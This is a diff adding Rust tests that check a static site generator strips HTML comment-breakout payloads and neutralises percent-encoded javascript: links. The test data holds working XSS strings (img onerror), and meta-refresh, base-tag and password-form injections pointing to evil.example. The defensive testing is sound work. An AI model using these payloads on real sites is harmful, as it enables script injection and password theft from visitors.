@@ -211,3 +211,83 @@ fn a_lock_file_that_is_a_link_is_not_written_through() {
     );
     assert_eq!(site.read("victim.txt"), "precious");
 }
+
+/// Every file of the built site, as text.
+fn all_output(site: &Site) -> Vec<(String, String)> {
+    snapshot_dir(&site.path("public"))
+        .into_iter()
+        .map(|(p, b)| (p, String::from_utf8_lossy(&b).into_owned()))
+        .collect()
+}
+
+#[test]
+fn comments_end_where_a_browser_ends_them_so_nothing_after_them_runs() {
+    let hostile = [
+        "<!-- cheatsheet --!><img src=x onerror=alert(1)> -->",
+        "<!--><img src=x onerror=alert(2)> -->",
+        "<!---><img src=x onerror=alert(3)> -->",
+        "<!-- x --!><meta http-equiv=refresh content=\"0;url=https://evil.example/\"> -->",
+        "<!-- x --!><base href=\"https://evil.example/\"> -->",
+        "<!-- x --!><form action=\"https://evil.example/\"><input name=pw></form> -->",
+    ];
+    // One note per case: raw HTML anywhere on a page has the whole page sanitised.
+    let mut files = vec![("content/_index.md".to_string(), "Home.\n".to_string())];
+    for (i, h) in hostile.iter().enumerate() {
+        let table = "\n| A | B |\n|---|---|\n| 1 | 2 |\n";
+        files.push((
+            format!("content/block{i}.md"),
+            format!("# Block\n\n{h}{table}\nText.\n"),
+        ));
+        files.push((
+            format!("content/inline{i}.md"),
+            format!("# Inline\n\nInline {h} text.\n"),
+        ));
+        files.push((
+            format!("content/question{i}.md"),
+            format!("# Q\n\n### Which {h} is it?\n\n- [x] A {h}\n- [ ] B\n\nBecause {h}.\n"),
+        ));
+    }
+    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
+    let site = Site::new(&files);
+    let out = site.run(&["build", "--no-minify"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    // The theme's own files are the same in every site.
+    let plain = Site::new(&[("content/_index.md", "Home.\n")]);
+    plain.build();
+    let theme: Vec<String> = all_output(&plain).into_iter().map(|(p, _)| p).collect();
+    for (file, text) in all_output(&site).into_iter().filter(|(p, _)| !theme.contains(p)) {
+        let lower = text.to_ascii_lowercase();
+        for bad in ["onerror", "http-equiv", "<base", "<form", "evil.example"] {
+            assert!(!lower.contains(bad), "{file} holds `{bad}`");
+        }
+    }
+    assert!(
+        site.read("public/inline0.html").contains("Inline"),
+        "the text around stays"
+    );
+    let check = site.run(&["check"]);
+    assert!(
+        stderr(&check).contains("HTML comment ends early where a browser ends it"),
+        "{}",
+        stderr(&check)
+    );
+}
+
+#[test]
+fn a_percent_encoded_javascript_link_never_becomes_a_live_one() {
+    let site = Site::new(&[
+        (
+            "content/_index.md",
+            "[x](javascript%3Aalert(1)) [y](%6Aavascript:alert(2)) [z](sub/javascript%3Aalert(3))\n",
+        ),
+        ("content/javascript:alert(1)", "file"),
+        ("content/sub/javascript:alert(3)", "file"),
+    ]);
+    let out = site.run(&["build", "--no-minify"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let home = site.read("public/index.html");
+    for href in common::attr_values(&home, "href") {
+        let decoded = href.to_ascii_lowercase().replace("%3a", ":").replace("%6a", "j");
+        assert!(!decoded.starts_with("javascript:"), "live link {href}");
+    }
+}
